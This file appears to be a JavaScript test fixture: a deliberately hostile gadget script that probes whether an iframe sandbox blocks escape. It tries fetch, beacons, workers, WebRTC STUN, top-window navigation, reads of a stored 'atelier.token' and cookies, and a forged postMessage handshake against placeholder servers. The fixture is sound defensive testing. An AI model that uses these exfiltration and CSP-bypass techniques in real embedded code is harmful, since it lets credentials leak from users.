// A hostile gadget UI: deployed as a gadget's client.js by TestGadgetFrameSandbox, it tries every
// way out of its frame and writes what happened as JSON into #report (the test reads it there).
// __OUTSIDE__ is replaced with the URL of a server that records the requests and connections it
// gets, __BARE__ with another such server's (the target of the ways out that Chromium opens a
// connection for without sending a request), __STUN__ with the HOST:PORT of a UDP socket that
// counts the packets it gets.
const OUTSIDE = "__OUTSIDE__";
const BARE = "__BARE__";
const STUN = "__STUN__";
const WAIT = 5000; // how long an attempt waits for the one event that would settle it

const report = { violations: [], attempts: {} };
document.addEventListener("securitypolicyviolation", (e) => {
  report.violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
});
const settle = (ms) => new Promise((r) => setTimeout(r, ms));
const errText = (e) => `${(e && e.name) || "Error"}: ${(e && e.message) || e}`;

async function attempt(name, fn) {
  try {
    report.attempts[name] = { outcome: "allowed", detail: String(await fn()) };
  } catch (e) {
    report.attempts[name] = { outcome: "threw", detail: errText(e) };
  }
}

// cspReport rejects when the frame's policy reports blocking url (a navigation's report names
// only its origin); it resolves after WAIT if nothing is reported (the attempt then counts as
// allowed).
const cspReport = (url, blocked = url) => new Promise((resolve, reject) => {
  const seen = (e) => {
    if (e.blockedURI !== blocked) return;
    document.removeEventListener("securitypolicyviolation", seen);
    reject(new Error(`blocked by CSP ${e.effectiveDirective}`));
  };
  document.addEventListener("securitypolicyviolation", seen);
  setTimeout(() => resolve(`no CSP report within ${WAIT} ms`), WAIT);
});
// loaded settles when el (appended to the body) fires load or error.
const loaded = (el, ok = "load") => new Promise((resolve, reject) => {
  el.addEventListener(ok, () => resolve(ok));
  el.addEventListener("error", () => reject(new Error(`${el.localName} error event`)));
  document.body.append(el);
});
const out = (path) => OUTSIDE + path;

// Every way a page reaches a server. Each URL is its own, so that the test finds its report.
await attempt("fetch", () => fetch(out("/fetch")).then((r) => r.status));
await attempt("xhr", () => new Promise((resolve, reject) => {
  const x = new XMLHttpRequest();
  x.onload = () => resolve(x.status);
  x.onerror = () => reject(new Error("xhr error event"));
  x.open("GET", out("/xhr"));
  x.send();
}));
await attempt("websocket", () => new Promise((resolve, reject) => {
  const ws = new WebSocket(out("/ws").replace(/^http/, "ws"));
  ws.onopen = () => resolve("open");
  ws.onerror = () => reject(new Error("websocket error event"));
}));
await attempt("eventsource", () => new Promise((resolve, reject) => {
  const es = new EventSource(out("/eventsource"));
  es.onopen = () => resolve("open");
  es.onerror = () => { es.close(); reject(new Error("eventsource error event")); };
}));
await attempt("sendBeacon", () => {
  if (!navigator.sendBeacon(out("/beacon"), "secret")) throw new Error("sendBeacon returned false");
  return cspReport(out("/beacon"));
});
await attempt("img", () => {
  const img = new Image();
  img.src = out("/img.png");
  return loaded(img);
});
await attempt("stylesheet", () => {
  const link = document.createElement("link");
  link.rel = "stylesheet";
  link.href = out("/style.css");
  return loaded(link);
});
await attempt("prefetch", () => {
  const link = document.createElement("link");
  link.rel = "prefetch";
  link.href = out("/prefetch");
  document.head.append(link);
  return cspReport(out("/prefetch"));
});
await attempt("preconnect", () => {
  const link = document.createElement("link");
  link.rel = "preconnect";
  link.href = BARE;
  document.head.append(link);
  return "appended"; // the test counts the connections and requests that server gets
});
await attempt("font", () => new FontFace("probe", `url(${out("/font.woff2")})`).load());
await attempt("audio", () => loaded(Object.assign(new Audio(), { src: out("/audio.mp3") }), "canplay"));
await attempt("video", () => loaded(Object.assign(document.createElement("video"), { src: out("/video.mp4") }), "canplay"));
await attempt("frame", () => {
  const f = document.createElement("iframe");
  f.src = BARE + "/frame";
  document.body.append(f);
  return cspReport(BARE + "/frame", BARE);
});
await attempt("object", () => {
  const o = document.createElement("object");
  o.data = out("/object");
  document.body.append(o);
  return cspReport(out("/object"), OUTSIDE);
});
// A worker that runs fetches and says so.
const worker = (url) => new Promise((resolve, reject) => {
  const w = new Worker(url);
  w.onmessage = (e) => resolve(e.data);
  w.onerror = () => reject(new Error("worker error event"));
});
const workerSrc = (path) => `fetch(${JSON.stringify(out(path))}); postMessage("ran")`;
await attempt("worker.blob", () => worker(URL.createObjectURL(new Blob([workerSrc("/worker-blob")], { type: "text/javascript" }))));
await attempt("worker.data", () => worker("data:text/javascript," + encodeURIComponent(workerSrc("/worker-data"))));

// The shell and the browser around the frame.
await attempt("parent.document", () => parent.document.title);
await attempt("top.location", () => {
  top.location.href = out("/top");
  return "assigned";
});
await attempt("localStorage", () => localStorage.getItem("atelier.token"));
await attempt("document.cookie", () => document.cookie);
await attempt("window.open", () => {
  const w = window.open(out("/popup"));
  if (w === null) throw new Error("window.open returned null");
  return "opened";
});
await attempt("form", async () => {
  const form = document.createElement("form");
  form.method = "post";
  form.action = out("/form");
  form.innerHTML = '<input name="x" value="1">';
  document.body.append(form);
  form.submit();
  await settle(300);
  return "still here after submit"; // the test looks for Chromium's report of the refusal
});

// WebRTC, which no CSP directive of Chromium covers: the frame's own realm, then fresh realms.
async function rtc(name, stun, realm = globalThis) {
  const PC = realm[name];
  if (typeof PC !== "function") throw new TypeError(`${name} is ${typeof PC}`);
  const pc = new PC({ iceServers: [{ urls: `stun:${stun}` }] });
  pc.createDataChannel("probe");
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((resolve) => {
    pc.onicegatheringstatechange = () => pc.iceGatheringState === "complete" && resolve();
    setTimeout(resolve, 2500); // less than WAIT: the STUN server never answers
  });
  pc.close();
  return "ICE gathering ran";
}
await attempt("RTCPeerConnection", () => rtc("RTCPeerConnection", STUN));
await attempt("webkitRTCPeerConnection", () => rtc("webkitRTCPeerConnection", STUN));
await attempt("RTCDataChannel", () => {
  if (typeof RTCDataChannel === "undefined") throw new TypeError("RTCDataChannel is undefined");
  return "defined";
});
await attempt("rtc.blank-frame", () => {
  const f = document.createElement("iframe");
  document.body.append(f);
  return rtc("RTCPeerConnection", STUN, f.contentWindow); // a nested frame's initial about:blank
});
// A nested srcdoc frame (frame-src does not stop srcdoc) has a realm of its own; code there
// reports back with postMessage {outcome, detail} (as attempt() records them).
const rtcCode = `${rtc}
rtc("RTCPeerConnection", ${JSON.stringify(STUN)}).then(
  (ok) => parent.postMessage({ outcome: "allowed", detail: ok }, "*"),
  (e) => parent.postMessage({ outcome: "threw", detail: e.name + ": " + e.message }, "*"));`;
function nested(srcdoc, onMessage = () => {}) {
  return new Promise((resolve, reject) => {
    const f = document.createElement("iframe");
    const done = (ev) => {
      if (ev.source !== f.contentWindow) return;
      if (!ev.data || !ev.data.outcome) return onMessage(ev);
      removeEventListener("message", done);
      if (ev.data.outcome === "allowed") resolve(ev.data.detail);
      else reject(new Error(`in the nested frame: ${ev.data.detail}`));
    };
    addEventListener("message", done);
    setTimeout(() => reject(new Error(`no script ran in the nested frame within ${WAIT} ms`)), WAIT);
    f.srcdoc = srcdoc;
    document.body.append(f);
  });
}
const dataScript = "data:text/javascript," + encodeURIComponent(rtcCode);
await attempt("rtc.nested-inline", () => nested(`<script>${rtcCode}<\/script>`));
await attempt("rtc.nested-data", () => nested(`<script src="${dataScript}"><\/script>`));
// The one script the frame's policy runs from markup is the frame document's own first script;
// a nested frame may carry it too, and feed it code as the shell does.
const first = document.querySelector("script:not([src])");
const feed = (code) => (ev) => {
  if (ev.data === "atelier:gadget-frame") ev.source.postMessage({ type: "atelier:gadget-scripts", scripts: [code] }, "*");
};
await attempt("rtc.nested-first-script", () => nested(`<script>${first.textContent}<\/script>`, feed(rtcCode)));

// The shell's side of the bridge: a nested frame (an opaque origin too) forges this frame's
// hello and handshake to the shell. The shell answers its own frame's window only: no scripts
// come back, and no reply on the forged port to a call of the gadget's list method.
const forgeCode = `const answers = [];
addEventListener("message", (ev) => {
  if (ev.source === top) answers.push("the shell answered the hello with " + JSON.stringify(ev.data).slice(0, 80));
});
const ch = new MessageChannel();
ch.port1.onmessage = (ev) => answers.push("the shell answered on the forged port: " + JSON.stringify(ev.data).slice(0, 200));
top.postMessage("atelier:gadget-frame", "*");
top.postMessage("atelier:gadget-handshake", "*", [ch.port2]);
ch.port1.postMessage(["push", ["pipeline", 0, ["list"], []]]);
ch.port1.postMessage(["pull", 1]);
setTimeout(() => parent.postMessage(answers.length ? { outcome: "allowed", detail: answers.join("; ") } : { outcome: "threw", detail: "no answer from the shell" }, "*"), 3000);`;
await attempt("forged.handshake", () => nested(`<script>${first.textContent}<\/script>`, feed(forgeCode)));

// What the frame may do: call its own gadget's exports, and nothing else of the Gadget.
await attempt("gadget.delete", () => gadget.delete()); // not an export: the frame reaches only its gadget's methods
await attempt("gadget.add", () => gadget.add("probe").then((t) => t.title));
await attempt("gadget.list", () => gadget.list().then((l) => l.map((t) => t.title).join(",")));
await settle(300); // late violation events

const pre = document.createElement("pre");
pre.id = "report";
pre.textContent = JSON.stringify(report);
document.body.append(pre);
// Navigating the frame itself elsewhere: the test clicks this last (the frame's document ends).
const leave = document.createElement("button");
leave.id = "leave";
leave.textContent = "leave";
leave.addEventListener("click", () => { location.href = BARE + "/selfnav"; });
document.body.append(leave);
